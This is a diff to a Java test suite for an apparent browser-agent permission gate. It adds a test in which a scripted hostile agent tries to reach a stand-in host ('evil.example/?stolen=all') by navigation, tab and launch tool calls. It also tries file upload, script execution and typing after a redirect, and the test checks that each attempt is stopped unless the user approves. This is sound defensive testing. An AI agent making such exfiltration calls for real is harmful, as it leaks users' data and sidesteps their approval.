@@ -34,6 +34,9 @@ import tools.jackson.databind.node.ObjectNode;
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class SessionGateTest {
     private static final Duration PATIENCE = Duration.ofSeconds(30);
+    private static final String SNAPSHOT =
+            "mcp tools/call {\"name\":\"snapshot\",\"arguments\":{}}";
+    private static final String SHOP = "https://shop.example/list";
 
     private String usersHome;
     private TestHub hub;
@@ -42,6 +45,7 @@ class SessionGateTest {
     private PermissionDesk desk;
     private App app;
     private String id;
+    private volatile String shown = SHOP;
 
     @BeforeAll
     void open(@TempDir Path folder) throws Exception {
@@ -63,9 +67,16 @@ class SessionGateTest {
                                 .put("targetId", "tab-" + tab)
                                 .put("type", "page")
                                 .put("title", "Shop")
-                                .put("url", "https://shop.example/list")
+                                .put("url", shown)
                                 .put("tabId", tab);
                     }
+                    extension.answer(request, payload);
+                });
+        extension.on(
+                "browser.tabs",
+                request -> {
+                    ObjectNode payload = Json.object();
+                    payload.putArray("tabs").addObject().put("id", 101).put("url", shown);
                     extension.answer(request, payload);
                 });
         extension.on(
@@ -75,10 +86,16 @@ class SessionGateTest {
 
     @BeforeEach
     void startSession() {
+        start("ask");
+    }
+
+    private void start(String mode) {
+        ObjectNode annotations = Json.object().put("tandem/agent", "scripted");
+        annotations.put("tandem/profile", "all").put("tandem/mode", mode);
         ObjectNode fields = Json.object().put("name", "Gate");
-        fields.put("annotations", "{\"tandem/agent\":\"scripted\",\"tandem/profile\":\"all\"}");
-        id = engine.create("default", fields).id();
+        id = engine.create("default", fields.put("annotations", Json.write(annotations))).id();
         engine.start(id);
+        shown = SHOP;
         commands();
     }
 
@@ -188,6 +205,66 @@ class SessionGateTest {
         desk.answer(card(other).requestId(), "reject_once", Caller.USER);
         awaitSaid(other, "mcp ");
         assertThat(commands()).doesNotContain("interact.click");
+    }
+
+    @Test
+    @DisplayName("SEC-14 a hostile agent in act mode: without a yes no byte leaves for elsewhere")
+    void nothingLeavesWithoutACard() {
+        engine.delete(id);
+        start("act");
+        extension.on(
+                "nav.goto",
+                request -> extension.answer(request, Json.object().put("finalUrl", "x")));
+        long first = send("See https://shop.example and https://partner.example\n" + SNAPSHOT);
+        awaitSaid(first, "mcp ");
+        assertThat(desk.open(id)).as("inside the fence nobody is asked").isEmpty();
+        assertThat(commands()).contains("nav.snapshot");
+
+        // The address is spelled so that it is not the user who names it.
+        String evil = "https:\\/\\/evil.example\\/?stolen=all";
+        for (String attack :
+                List.of(
+                        "goto|{\"url\":\"" + evil + "\"}",
+                        "page|{\"name\":\"p\",\"url\":\"" + evil + "\"}",
+                        "target_new|{\"url\":\"" + evil + "\"}",
+                        "launch|{\"startUrl\":\"" + evil + "\"}")) {
+            Card card = refuse(attack);
+            assertThat(card.ask().where().url()).isEqualTo("https://evil.example/?stolen=all");
+        }
+        for (String attack :
+                List.of(
+                        "upload|{\"ref\":\"r1\",\"files\":[\"a.txt\"]}",
+                        "browser_execute|{\"tabId\":101,\"script\":\"new Image().src=1\"}",
+                        "goto|{\"url\":\"https:\\/\\/partner.example\\/?stolen=all\"}")) {
+            refuse(attack);
+        }
+        shown = "https://evil.example/after-a-redirect";
+        for (String attack :
+                List.of(
+                        "snapshot|{}",
+                        "click|{\"ref\":\"r1\"}",
+                        "type|{\"ref\":\"r2\",\"text\":\"stolen\"}",
+                        "press|{\"key\":\"s\"}")) {
+            Card card = refuse(attack);
+            assertThat(card.ask().where().url()).isEqualTo(shown);
+        }
+    }
+
+    /** Lets the agent try it in a turn of its own, says no, and sees that nothing was done. */
+    private Card refuse(String attack) {
+        String[] parts = attack.split("\\|", 2);
+        long sent =
+                send(
+                        "mcp tools/call {\"name\":\"%s\",\"arguments\":%s}"
+                                .formatted(parts[0], parts[1]));
+        Card card = card(sent);
+        assertThat(card.ask().what().tool()).isEqualTo(parts[0]);
+        desk.answer(card.requestId(), "reject_once", Caller.USER);
+        awaitSaid(sent, "mcp ");
+        assertThat(commands())
+                .as(attack)
+                .isSubsetOf("targets.list", "tabs.list", "session.status", "browser.tabs");
+        return card;
     }
 
     @Test
